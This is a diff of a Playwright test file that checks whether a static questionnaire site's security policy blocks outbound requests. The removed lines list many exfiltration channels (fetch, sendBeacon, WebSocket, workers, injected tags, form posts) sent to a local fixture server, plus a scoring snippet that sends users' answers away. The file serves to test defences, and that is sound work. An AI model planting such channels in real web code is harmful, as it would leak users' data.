@@ -9,8 +9,9 @@ import pytest
 from playwright.sync_api import Page, expect
 
 from site_tests.e2e.pages.questionnaire import Questionnaire
+from site_tests.e2e.ways_out import FROM_PAGE, FROM_WORKER, scoring_that_sends
 from site_tests.support.browsing import PYTHON_TIMEOUT
-from site_tests.support.places import BUILT_SITE
+from site_tests.support.places import BUILT_SITE, base_path
 from site_tests.support.server import Answer, StaticSite
 
 POLICY = (
@@ -87,48 +88,13 @@ def elsewhere(page: Page, tmp_path: Path) -> Iterator[StaticSite]:
         yield site
 
 
-ATTEMPTS = """async (address) => {
-  const attempt = async (act) => { try { await act(); } catch {} };
-  const add = (tag, attributes) =>
-    document.body.append(Object.assign(document.createElement(tag), attributes));
-  await attempt(() => fetch(address + 'fetch'));
-  await attempt(() => fetch(address + 'no-cors', { mode: 'no-cors', method: 'POST', body: 'secret' }));
-  await attempt(() => navigator.sendBeacon(address + 'beacon', 'secret'));
-  await attempt(() => new EventSource(address + 'events'));
-  await attempt(() => new WebSocket(address.replace('http', 'ws') + 'socket'));
-  await attempt(() => import(address + 'module.js'));
-  await attempt(() => new Worker(address + 'worker.js'));
-  await attempt(() => navigator.serviceWorker.register('/parent-infant-tools/assets/early.js'));
-  await attempt(() => new Promise((resolve) => {
-    const request = new XMLHttpRequest();
-    request.onloadend = resolve;
-    request.open('GET', address + 'xhr');
-    request.send();
-  }));
-  add('img', { src: address + 'image.png' });
-  add('iframe', { src: address + 'frame' });
-  add('script', { src: address + 'script.js' });
-  add('link', { rel: 'stylesheet', href: address + 'style.css' });
-  add('link', { rel: 'prefetch', href: address + 'prefetch' });
-  add('object', { data: address + 'object' });
-  add('video', { src: address + 'video.mp4' });
-  const form = Object.assign(document.createElement('form'), { action: address + 'form', method: 'post' });
-  document.body.append(form);
-  form.submit();
-  const style = document.createElement('div');
-  style.style.background = `url(${address}background.png)`;
-  document.body.append(style);
-  await new Promise((resolve) => setTimeout(resolve, 500));
-}"""
-
-
 @pytest.mark.allow_page_errors("the policy says what it refuses")
 @pytest.mark.allow_foreign_requests("the browser names requests that it then refuses")
 def test_no_way_out_of_a_page_leads_anywhere(
     audit: Questionnaire, elsewhere: StaticSite, no_python: None
 ) -> None:
     audit.open("details")
-    audit.page.evaluate(ATTEMPTS, elsewhere.url)
+    audit.page.evaluate(f"([address, base]) => ({FROM_PAGE})(address, base)", [elsewhere.url, base_path()])
     assert elsewhere.requests == []
 
 
@@ -140,24 +106,8 @@ def test_no_script_in_the_engines_worker_gets_out(audit: Questionnaire, elsewher
     [worker] = audit.page.workers
     assert worker.url.startswith("blob:")
 
-    refusals = worker.evaluate(
-        """async (address) => {
-          const attempt = (act) => act().then(() => 'got out', () => 'refused');
-          return [
-            await attempt(() => fetch(address + 'fetch')),
-            await attempt(() => fetch(address + 'post', { mode: 'no-cors', method: 'POST', body: 'secret' })),
-            await attempt(() => import(address + 'module.js')),
-            await attempt(async () => importScripts(address + 'script.js')),
-            await attempt(() => new Promise((resolve, reject) => {
-              const socket = new WebSocket(address.replace('http', 'ws') + 'socket');
-              socket.onopen = resolve;
-              socket.onerror = reject;
-            })),
-          ];
-        }""",
-        elsewhere.url,
-    )
-    assert set(refusals) == {"refused"}
+    outcomes = worker.evaluate(FROM_WORKER, elsewhere.url)
+    assert set(outcomes.values()) == {"refused"}, outcomes
     assert elsewhere.requests == []
 
 
@@ -167,22 +117,7 @@ def test_scoring_code_that_tries_to_send_answers_away_gets_nowhere(
     audit: Questionnaire, elsewhere: StaticSite, site: StaticSite
 ) -> None:
     """The build refuses such code. Were it published all the same, the browser refuses it too."""
-    code = f"""
-from questionnaire_core import Classification, Result
-from js import XMLHttpRequest, fetch
-
-def score(response, today):
-    fetch("{elsewhere.url}answers?" + str(response.answer("team")))
-    request = XMLHttpRequest.new()
-    request.open("POST", "{elsewhere.url}answers", False)
-    try:
-        request.send("secret")
-        outcome = "It got out"
-    except Exception:
-        outcome = "It was refused"
-    return Result(classification=Classification("attempt", outcome))
-"""
-    with site.answering("self-audit.scoring.py", Answer(body=code.encode())):
+    with site.answering("self-audit.scoring.py", Answer(body=scoring_that_sends(elsewhere.url))):
         audit.open("results")
         audit.results.reveal()
         audit.results.expect_conclusion("It was refused")
